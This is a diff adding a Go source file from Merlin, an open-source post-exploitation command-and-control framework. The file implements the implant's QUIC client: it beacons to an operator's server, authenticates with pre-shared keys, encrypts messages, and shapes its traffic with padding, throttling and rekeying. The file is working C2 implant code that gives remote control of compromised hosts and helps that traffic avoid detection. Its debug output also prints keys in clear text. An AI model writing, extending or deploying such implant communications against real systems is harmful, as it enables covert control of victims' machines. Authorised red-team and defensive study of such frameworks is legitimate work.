@@ -0,0 +1,721 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package quic contains a configurable client used for raw QUIC Agent communications. Small beacon messages are sent
+// as unreliable DATAGRAM frames and everything else is sent over QUIC streams
+package quic
+
+import (
+	// Standard
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"crypto/tls"
+	"encoding/gob"
+	"fmt"
+	"io"
+	"net"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// 3rd Party
+	"github.com/google/uuid"
+	"github.com/quic-go/quic-go"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/chain"
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/pin"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/prekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/rekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
+	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
+	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/chains"
+)
+
+const (
+	// ALPN is the application layer protocol negotiated with the server during the QUIC TLS handshake
+	ALPN = "merlin"
+	// DatagramMax is the largest encoded message, in bytes, that will be sent in a single DATAGRAM frame.
+	// Larger messages are sent over a stream
+	DatagramMax = 1100
+)
+
+// Client is a type of MerlinClient that is used to send and receive Merlin messages from the Merlin server
+type Client struct {
+	address       string                       // address is the host and UDP port of the QUIC server
+	agentID       uuid.UUID                    // agentID the Agent's UUID
+	authenticated bool                         // authenticated tracks if the Agent has successfully authenticated
+	authComplete  chan bool                    // authComplete is a channel that is used to block sending messages until the Agent has successfully completed authenticated
+	authenticator authenticators.Authenticator // authenticator the method the Agent will use to authenticate to the server
+	connection    quic.Connection              // connection the QUIC connection used to handle traffic
+	incoming      chan []byte                  // incoming holds data received as either a DATAGRAM frame or a stream until Listen() processes it
+	insecure      bool                         // insecure skips TLS certificate validation
+	listenerID    uuid.UUID                    // listenerID the UUID of the listener that this Agent is configured to communicate with
+	padding       *padding.Profile             // padding selects the amount of random padding added to each Base message
+	pins          pin.Pins                     // pins the SHA-256 hashes of the server certificate public keys the Agent will trust
+	throttle      *throttle.Limiter            // throttle limits the rate, in bytes per second, that data is sent
+	rekey         *rekey.Schedule              // rekey tracks when the secret is replaced with a new one derived from it
+	psk           heap.Secret                  // psk the pre-shared key used for encrypting messages until authentication is complete
+	psks          []heap.Secret                // psks is the ordered list of Pre-Shared Keys tried when a message can't be decrypted with the secret
+	secret        heap.Secret                  // secret the key used to encrypt messages
+	transformers  [][]transformer.Transformer  // transformers the chains of transforms (encoding/encryption) to apply when constructing a message; one chain is picked for each message
+	sync.Mutex                                 // used to lock the Client when changes are being made by one function or routine
+}
+
+// Config is a structure that is used to pass in all necessary information to instantiate a new Client
+type Config struct {
+	Address      []string  // Address the host and UDP port of the QUIC server
+	AgentID      uuid.UUID // AgentID the Agent's UUID
+	AuthPackage  string    // AuthPackage the type of authentication the agent should use when communicating with the server
+	InsecureTLS  bool      // InsecureTLS skips TLS certificate validation
+	ListenerID   uuid.UUID // ListenerID the UUID of the listener that this Agent is configured to communicate with
+	Padding      string    // Padding the padding profile: the max amount of random data appended to every message (e.g., 4096) or size distributions per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
+	Pin          string    // Pin the SHA-256 hash of the server certificate public key to trust; empty disables pinning
+	Throttle     string    // Throttle the maximum rate, in bytes per second, that data is sent (e.g., 512K); empty is unlimited
+	Rekey        string    // Rekey is the message count and/or interval (e.g., 100,30m) after which a new secret is derived; empty never rekeys
+	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication, or a comma separated, ordered list of them
+	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message; multiple lists separated by a semicolon are chains and one is picked at random for each message
+}
+
+// New instantiates and returns a Client that is constructed from the passed in Config
+func New(config Config) (*Client, error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.New() entering into function with config: %+v", config))
+
+	client := Client{}
+	client.authComplete = make(chan bool, 1)
+	client.incoming = make(chan []byte, 100)
+	if config.AgentID == uuid.Nil {
+		return nil, fmt.Errorf("clients/quic.New(): a nil Agent UUID was provided")
+	}
+	client.agentID = config.AgentID
+	if config.ListenerID == uuid.Nil {
+		return nil, fmt.Errorf("clients/quic.New(): a nil Listener UUID was provided")
+	}
+	client.listenerID = config.ListenerID
+	client.psks = heap.NewSecrets(clients.PSKs(config.PSK))
+	client.psk = client.psks[0]
+	client.insecure = config.InsecureTLS
+
+	// Parse Address and validate it
+	if len(config.Address) <= 0 {
+		return nil, fmt.Errorf("a configuration address value was not provided")
+	}
+	_, err := net.ResolveUDPAddr("udp", config.Address[0])
+	if err != nil {
+		return nil, err
+	}
+	client.address = config.Address[0]
+
+	// Certificate pinning
+	client.pins, err = pin.Parse(config.Pin)
+	if err != nil {
+		return nil, fmt.Errorf("clients/quic.New(): %s", err)
+	}
+
+	// Set secret for encryption
+	k := sha256.Sum256(client.psk.Open())
+	client.secret = heap.NewSecret(k[:])
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk.Open()))
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret.Open()))
+
+	// Message padding profile
+	client.padding, err = padding.New(config.Padding)
+	if err != nil {
+		return &client, fmt.Errorf("clients/quic.New(): %s", err)
+	}
+
+	// Outbound bandwidth throttle
+	client.throttle, err = throttle.New(config.Throttle)
+	if err != nil {
+		return nil, fmt.Errorf("clients/quic.New(): %s", err)
+	}
+
+	// Session rekey schedule
+	client.rekey, err = rekey.New(config.Rekey)
+	if err != nil {
+		return nil, fmt.Errorf("clients/quic.New(): %s", err)
+	}
+
+	// Authenticator, or a comma separated list that is an ordered chain of authenticators that must all succeed (e.g., none,opaque)
+	client.authenticator, err = chain.Select(config.AgentID, config.AuthPackage)
+	if err != nil {
+		return nil, err
+	}
+
+	// Transformers
+	// Multiple transformer chains are separated by a semicolon and one is picked at random for each message
+	client.transformers, err = chains.New(config.Transformers)
+	if err != nil {
+		return nil, fmt.Errorf("clients/quic.New(): %s", err)
+	}
+
+	cli.Message(cli.INFO, "Client information:")
+	cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", &client))
+	cli.Message(cli.INFO, fmt.Sprintf("\tAddress: %s", client.address))
+	cli.Message(cli.INFO, fmt.Sprintf("\tListener: %s", client.listenerID))
+	cli.Message(cli.INFO, fmt.Sprintf("\tAuthenticator: %s", client.authenticator))
+	cli.Message(cli.INFO, fmt.Sprintf("\tTransforms: %+v", client.transformers))
+	cli.Message(cli.INFO, fmt.Sprintf("\tRekey: %s", client.rekey))
+	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %s", client.padding))
+	cli.Message(cli.INFO, fmt.Sprintf("\tCertificate Pins: %s", client.pins))
+
+	return &client, nil
+}
+
+// Initial executes the specific steps required to establish a connection with the C2 server and checkin or register an agent
+func (client *Client) Initial() (err error) {
+	cli.Message(cli.DEBUG, "clients/quic.Initial(): entering into function")
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Initial(): leaving function with error: %+v", err))
+
+	err = client.Connect()
+	if err != nil {
+		err = fmt.Errorf("clients/quic.Initial(): %s", err)
+		return
+	}
+
+	// Authenticate
+	err = client.Authenticate(messages.Base{})
+	return
+}
+
+// Authenticate is the top-level function used to authenticate an agent to server using a specific authentication protocol
+// The function must take in a Base message for when the C2 server requests re-authentication through a message
+func (client *Client) Authenticate(msg messages.Base) (err error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Authenticate(): entering into function with message: %+v", msg))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Authenticate(): leaving function with error: %+v", err))
+	client.Lock()
+	client.authenticated = false
+	client.Unlock()
+	if len(client.authComplete) > 0 {
+		<-client.authComplete
+	}
+	var authenticated bool
+	// Reset the Agent's PSK
+	k := sha256.Sum256(client.psk.Open())
+	client.Lock()
+	client.secret = heap.NewSecret(k[:])
+	client.Unlock()
+
+	// Agree on an ephemeral pre-authentication secret so that the PSK alone can't decrypt the authentication messages
+	if prekey.Enabled() {
+		var secret []byte
+		secret, err = prekey.Agree(client.agentID, client.SendAndWait, string(client.psk.Open()))
+		if err != nil {
+			return
+		}
+		client.Lock()
+		client.secret = heap.NewSecret(secret)
+		client.Unlock()
+	}
+
+	// Repeat until authenticator is complete and Agent is authenticated
+	for {
+		msg, authenticated, err = client.authenticator.Authenticate(msg)
+		if err != nil {
+			return
+		}
+		// An empty message was received indicating to exit the function
+		if msg.Type == 0 {
+			return
+		}
+
+		// Once authenticated, update the client's secret used to encrypt messages
+		if authenticated {
+			client.Lock()
+			client.authenticated = true
+			client.Unlock()
+			var key []byte
+			key, err = client.authenticator.Secret()
+			if err != nil {
+				return
+			}
+			// Don't update the secret if the authenticator returned an empty key
+			if len(key) > 0 {
+				client.Lock()
+				client.secret = heap.NewSecret(key)
+				client.rekey.Reset()
+				client.Unlock()
+			}
+		}
+
+		if msg.Type == messages.OPAQUE {
+			// Send the message to the server
+			var msgs []messages.Base
+			msgs, err = client.SendAndWait(msg)
+			if err != nil {
+				return
+			}
+
+			// Add response message to the next loop iteration
+			if len(msgs) > 0 {
+				// Don't add IDLE messages, just continue on
+				if msgs[0].Type != messages.IDLE {
+					msg = msgs[0]
+				}
+			}
+		} else {
+			_, err = client.Send(msg)
+			if err != nil {
+				return
+			}
+		}
+
+		// If the Agent is authenticated, exit the loop and return the function
+		if authenticated {
+			client.authComplete <- true
+			return
+		}
+	}
+}
+
+// Connect establishes a QUIC connection with the server and starts receiving DATAGRAM frames and streams from it
+func (client *Client) Connect() (err error) {
+	cli.Message(cli.DEBUG, "clients/quic.Connect(): entering into function")
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Connect(): leaving function with error %+v", err))
+
+	client.Lock()
+	defer client.Unlock()
+
+	// Check to see if the connection was restored by a different call stack
+	if client.connection != nil && client.connection.Context().Err() == nil {
+		return nil
+	}
+
+	host, _, err := net.SplitHostPort(client.address)
+	if err != nil {
+		return fmt.Errorf("clients/quic.Connect(): %s", err)
+	}
+
+	TLSConfig := &tls.Config{
+		MinVersion:         tls.VersionTLS13,
+		ServerName:         host,
+		InsecureSkipVerify: client.insecure, // #nosec G402 - intentionally configurable to allow self-signed certificates
+		// Certificate pinning is enforced even when InsecureSkipVerify is true
+		VerifyPeerCertificate: client.pins.VerifyPeerCertificate(),
+		NextProtos:            []string{ALPN},
+	}
+
+	config := &quic.Config{
+		// DATAGRAM frames (RFC 9221) are used for small beacon messages
+		EnableDatagrams: true,
+		// If MaxIdleTimeout is too high, agent will never get an error if the server is offline
+		MaxIdleTimeout: time.Second * 30,
+		// KeepAlivePeriod keeps the connection, and any NAT binding, alive while the Agent sleeps
+		KeepAlivePeriod: time.Second * 15,
+		// HandshakeIdleTimeout is how long the client will wait to hear back while setting up the initial crypto handshake w/ server
+		HandshakeIdleTimeout: time.Second * 30,
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), time.Second*30)
+	defer cancel()
+	client.connection, err = quic.DialAddr(ctx, client.address, TLSConfig, config)
+	if err != nil {
+		client.connection = nil
+		return fmt.Errorf("clients/quic.Connect(): there was an error connecting to %s: %s", client.address, err)
+	}
+	if !client.connection.ConnectionState().SupportsDatagrams {
+		cli.Message(cli.WARN, fmt.Sprintf("The QUIC server at %s does not support DATAGRAM frames, all messages will be sent over streams", client.address))
+	}
+	go client.receiveDatagrams(client.connection)
+	go client.receiveStreams(client.connection)
+	cli.Message(cli.SUCCESS, fmt.Sprintf("Successfully connected to %s at %s", client.address, time.Now().UTC().Format(time.RFC3339)))
+	return nil
+}
+
+// receiveDatagrams adds the payload of every DATAGRAM frame received on the connection to the incoming channel until
+// the connection is closed
+func (client *Client) receiveDatagrams(conn quic.Connection) {
+	for {
+		data, err := conn.ReceiveDatagram(conn.Context())
+		if err != nil {
+			cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.receiveDatagrams(): leaving function with error: %s", err))
+			return
+		}
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.receiveDatagrams(): received %d byte DATAGRAM frame from %s", len(data), conn.RemoteAddr()))
+		client.incoming <- data
+	}
+}
+
+// receiveStreams reads every unidirectional stream the server opens on the connection, one message per stream, and adds
+// it to the incoming channel until the connection is closed
+func (client *Client) receiveStreams(conn quic.Connection) {
+	for {
+		stream, err := conn.AcceptUniStream(conn.Context())
+		if err != nil {
+			cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.receiveStreams(): leaving function with error: %s", err))
+			return
+		}
+		data, err := io.ReadAll(stream)
+		if err != nil {
+			cli.Message(cli.WARN, fmt.Sprintf("clients/quic.receiveStreams(): there was an error reading stream %d from %s: %s", stream.StreamID(), conn.RemoteAddr(), err))
+			continue
+		}
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.receiveStreams(): read %d bytes from stream %d from %s", len(data), stream.StreamID(), conn.RemoteAddr()))
+		client.incoming <- data
+	}
+}
+
+// Construct takes in a messages.Base structure that is ready to be sent to the server and runs all the configured transforms
+// on it to encode and encrypt it.
+func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
+	// Replace the secret with the next one derived from it when the rekey schedule is due
+	client.Lock()
+	secret := client.secret.Open()
+	if client.authenticated {
+		secret, err = client.rekey.Next(secret)
+		if err != nil {
+			client.Unlock()
+			return nil, fmt.Errorf("clients/quic.Construct(): %s", err)
+		}
+		client.secret = heap.NewSecret(secret)
+	}
+	client.Unlock()
+	index, prefix := transformer.Pick(len(client.transformers))
+	transformers := client.transformers[index]
+	for i := len(transformers); i > 0; i-- {
+		if i == len(transformers) {
+			// First call should always take a Base message
+			data, err = transformers[i-1].Construct(msg, secret)
+		} else {
+			data, err = transformers[i-1].Construct(data, secret)
+		}
+		if err != nil {
+			return nil, fmt.Errorf("clients/quic.Construct(): there was an error calling the transformer construct function: %s", err)
+		}
+	}
+	// The prefix identifies the transformer chain to the server when there is more than one
+	if prefix != nil {
+		data = append(prefix, data...)
+	}
+	return
+}
+
+// Deconstruct takes in data returned from the server and runs all the Agent's transforms on it until
+// a messages.Base structure is returned. The key is used for decryption transforms
+func (client *Client) Deconstruct(data []byte) (messages.Base, error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Deconstruct(): entering into function with message: %+v", data))
+	index, data, err := transformer.Identify(data, len(client.transformers))
+	if err != nil {
+		return messages.Base{}, fmt.Errorf("clients/quic.Deconstruct(): %s", err)
+	}
+	client.Lock()
+	secret, previous, psks := client.secret.Open(), client.rekey.Previous(), client.psks
+	client.Unlock()
+	for _, transform := range client.transformers[index] {
+		ret, err := transform.Deconstruct(data, secret)
+		if err != nil && previous != nil {
+			// The server may have constructed the message before it followed the Agent to its latest secret
+			ret, err = transform.Deconstruct(data, previous)
+		}
+		if err != nil {
+			cli.Message(cli.WARN, "clients/quic.Deconstruct(): unable to deconstruct with Agent's secret, retrying with the PSKs")
+			// Try each PSK in order and keep the first one that works
+			for _, p := range psks {
+				k := sha256.Sum256(p.Open())
+				ret, err = transform.Deconstruct(data, k[:])
+				if err == nil {
+					// If a PSK worked, assume the agent is unauthenticated to the server
+					secret = k[:]
+					client.Lock()
+					client.authenticated = false
+					client.psk = p
+					client.secret = heap.NewSecret(secret)
+					client.Unlock()
+					break
+				}
+			}
+			if err != nil {
+				return messages.Base{}, err
+			}
+		}
+		switch ret.(type) {
+		case []uint8:
+			data = ret.([]byte)
+		case string:
+			data = []byte(ret.(string))
+		case messages.Base:
+			return ret.(messages.Base), nil
+		default:
+			return messages.Base{}, fmt.Errorf("clients/quic.Deconstruct(): unhandled data type for Deconstruct(): %T", ret)
+		}
+	}
+	return messages.Base{}, fmt.Errorf("clients/quic.Deconstruct(): unable to transform data into messages.Base structure")
+}
+
+// Listen waits for a message from the server, received as either a DATAGRAM frame or a stream, deconstructs it into a
+// Base message, and returns it
+func (client *Client) Listen() (returnMessages []messages.Base, err error) {
+	cli.Message(cli.DEBUG, "clients/quic.Listen(): entering into function")
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Listen(): leaving function with error %+v and return messages: %+v", err, returnMessages))
+
+	// Repair broken connections
+	client.Lock()
+	conn := client.connection
+	client.Unlock()
+	if conn == nil || conn.Context().Err() != nil {
+		cli.Message(cli.NOTE, fmt.Sprintf("Client connection was empty. Re-establishing connection at %s...", time.Now().UTC().Format(time.RFC3339)))
+		err = client.Connect()
+		if err != nil {
+			err = fmt.Errorf("clients/quic.Listen(): %s", err)
+			return
+		}
+		client.Lock()
+		conn = client.connection
+		client.Unlock()
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Listening for incoming messages from %s on %s at %s...", conn.RemoteAddr(), conn.LocalAddr(), time.Now().UTC().Format(time.RFC3339)))
+	var data []byte
+	select {
+	case data = <-client.incoming:
+	case <-conn.Context().Done():
+		// The connection was deliberately closed (e.g., the address changed), return so the next call reconnects
+		client.Lock()
+		replaced := client.connection != conn
+		client.Unlock()
+		if replaced {
+			return
+		}
+		err = fmt.Errorf("clients/quic.Listen(): the connection with %s was closed: %s", conn.RemoteAddr(), context.Cause(conn.Context()))
+		return
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from QUIC connection %s at %s", len(data), conn.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
+	var msg messages.Base
+	msg, err = client.Deconstruct(data)
+	if err != nil {
+		err = fmt.Errorf("clients/quic.Listen(): there was an error deconstructing the data: %s", err)
+		return
+	}
+
+	returnMessages = append(returnMessages, msg)
+	return
+}
+
+// Send takes in a Merlin message structure, performs any encoding or encryption, converts it to a delegate and sends it
+// to the server. Check in messages without delegates that are small enough are sent as a DATAGRAM frame and everything
+// else is sent over a new unidirectional stream.
+// This function DOES not wait or listen for response messages.
+func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Send(): entering into function with Base message: %+v", m))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Send(): leaving function with error: %v and returnMessages: %+v", err, returnMessages))
+
+	// Recover connection
+	client.Lock()
+	conn := client.connection
+	client.Unlock()
+	if conn == nil || conn.Context().Err() != nil {
+		cli.Message(cli.NOTE, fmt.Sprintf("Client connection was empty. Re-establishing connection at %s...", time.Now().UTC().Format(time.RFC3339)))
+		err = client.Connect()
+		if err != nil {
+			err = fmt.Errorf("clients/quic.Send(): %s", err)
+			return
+		}
+		client.Lock()
+		conn = client.connection
+		client.Unlock()
+	}
+
+	if !client.authenticated && m.Type != messages.OPAQUE {
+		cli.Message(cli.INFO, fmt.Sprintf("Waiting for authentication to complete before sending message at %s", time.Now().UTC().Format(time.RFC3339)))
+		<-client.authComplete
+		cli.Message(cli.INFO, fmt.Sprintf("Authentication completed, continuing with sending held message at %s", time.Now().UTC().Format(time.RFC3339)))
+	}
+
+	// Set the message padding
+	if size := client.padding.Size(m.Type); size > 0 {
+		m.Padding = core.RandStringBytesMaskImprSrc(size)
+	}
+
+	data, err := client.Construct(m)
+	if err != nil {
+		err = fmt.Errorf("clients/quic.Send(): there was an error constructing the data: %s", err)
+		return
+	}
+
+	delegate := messages.Delegate{
+		Listener: client.listenerID,
+		Agent:    client.agentID,
+		Payload:  data,
+	}
+
+	delegateBytes := new(bytes.Buffer)
+	err = gob.NewEncoder(delegateBytes).Encode(delegate)
+	if err != nil {
+		err = fmt.Errorf("there was an error encoding the %s message to a gob:\r\n%s", m.Type, err)
+		return
+	}
+
+	// Beacons are small and don't need to be retransmitted if they are lost, the next check in replaces them
+	if m.Type == messages.CHECKIN && len(m.Delegates) == 0 && delegateBytes.Len() <= DatagramMax && conn.ConnectionState().SupportsDatagrams {
+		cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s as a DATAGRAM frame at %s", m.Type, conn.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
+		client.throttle.Wait(delegateBytes.Len())
+		err = conn.SendDatagram(delegateBytes.Bytes())
+		if err == nil {
+			cli.Message(cli.NOTE, fmt.Sprintf("Wrote %d byte DATAGRAM frame to connection %s", delegateBytes.Len(), conn.RemoteAddr()))
+			return
+		}
+		cli.Message(cli.WARN, fmt.Sprintf("clients/quic.Send(): there was an error sending the DATAGRAM frame, falling back to a stream: %s", err))
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s over a stream at %s", m.Type, conn.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
+	ctx, cancel := context.WithTimeout(conn.Context(), time.Second*30)
+	defer cancel()
+	stream, err := conn.OpenUniStreamSync(ctx)
+	if err != nil {
+		err = fmt.Errorf("clients/quic.Send(): there was an error opening a stream with %s: %s", conn.RemoteAddr(), err)
+		return
+	}
+
+	n, err := client.throttle.Write(stream, delegateBytes.Bytes())
+	if err != nil {
+		stream.CancelWrite(0)
+		err = fmt.Errorf("clients/quic.Send(): there was an error writing the message to stream %d with %s: %s", stream.StreamID(), conn.RemoteAddr(), err)
+		return
+	}
+	// Closing the stream signals the server that the whole message has been sent
+	err = stream.Close()
+	if err != nil {
+		err = fmt.Errorf("clients/quic.Send(): there was an error closing stream %d with %s: %s", stream.StreamID(), conn.RemoteAddr(), err)
+		return
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Wrote %d bytes to stream %d on connection %s", n, stream.StreamID(), conn.RemoteAddr()))
+	return
+}
+
+// SendAndWait takes in a Merlin message, encodes/encrypts it, sends it, and then waits for response messages and returns them
+func (client *Client) SendAndWait(m messages.Base) (returnMessages []messages.Base, err error) {
+	cli.Message(cli.DEBUG, "Entering into clients/quic.SendAndWait()...")
+
+	// Send
+	returnMessages, err = client.Send(m)
+	if err != nil {
+		err = fmt.Errorf("clients/quic.SendAndWait(): %s", err)
+		return
+	}
+
+	// Listen
+	return client.Listen()
+}
+
+// Get is a generic function that is used to retrieve the value of a Client's field
+func (client *Client) Get(key string) (value string) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Get(): entering into function with key: %s", key))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Get(): leaving function with value: %s", value))
+	switch strings.ToLower(key) {
+	case "ja3":
+		return ""
+	case "throttle":
+		value = strconv.Itoa(client.throttle.Rate())
+	case "protocol":
+		value = client.String()
+	default:
+		value = fmt.Sprintf("unknown client configuration setting: %s", key)
+	}
+	return
+}
+
+// Padding returns the profile that selects the amount of random padding added to each Base message
+func (client *Client) Padding() *padding.Profile {
+	return client.padding
+}
+
+// SetPadding replaces the profile that selects the amount of random padding added to each Base message
+func (client *Client) SetPadding(profile *padding.Profile) {
+	client.padding = profile
+}
+
+// Set is a generic function that is used to modify a Client's field values
+func (client *Client) Set(key string, value string) (err error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Set(): entering into function with key: %s, value: %s", key, value))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/quic.Set(): exiting function with err: %v", err))
+	client.Lock()
+	defer client.Unlock()
+
+	switch strings.ToLower(key) {
+	case "addr":
+		// Validate the address
+		_, err = net.ResolveUDPAddr("udp", value)
+		if err != nil {
+			err = fmt.Errorf("clients/quic.Set(): there was an error parsing the provide address %s : %s", value, err)
+			return
+		}
+		// Close the connection, the next message will connect to the new address
+		if client.connection != nil {
+			err = client.connection.CloseWithError(0, "")
+			if err != nil {
+				err = fmt.Errorf("clients/quic.Set(): there was an error closing the connection: %s", err)
+				return
+			}
+		}
+		client.connection = nil
+		client.address = value
+	case "listener":
+		var id uuid.UUID
+		id, err = uuid.Parse(value)
+		if err != nil {
+			return fmt.Errorf("clients/quic.Set(): %s", err)
+		}
+		client.listenerID = id
+	case "refresh":
+		// The host's network changed; close the connection so the next message reconnects from the new network
+		if client.connection != nil {
+			err = client.connection.CloseWithError(0, "")
+			client.connection = nil
+		}
+	case "throttle":
+		err = client.throttle.Set(value)
+	case "psk":
+		// The PSK, or ordered list of them, is replaced along with the secret derived from it so the next
+		// authentication uses the new PSK
+		client.psks = heap.NewSecrets(clients.PSKs(value))
+		client.psk = client.psks[0]
+		k := sha256.Sum256(client.psk.Open())
+		client.secret = heap.NewSecret(k[:])
+	case "secret":
+		client.secret = heap.NewSecret([]byte(value))
+	default:
+		err = fmt.Errorf("unknown quic client setting: %s", key)
+	}
+	return err
+}
+
+// String returns the type of QUIC client
+func (client *Client) String() string {
+	return "quic"
+}
+
+// Synchronous identifies if the client connection is synchronous or asynchronous, used to determine how and when messages
+// can be sent/received.
+func (client *Client) Synchronous() bool {
+	return true
+}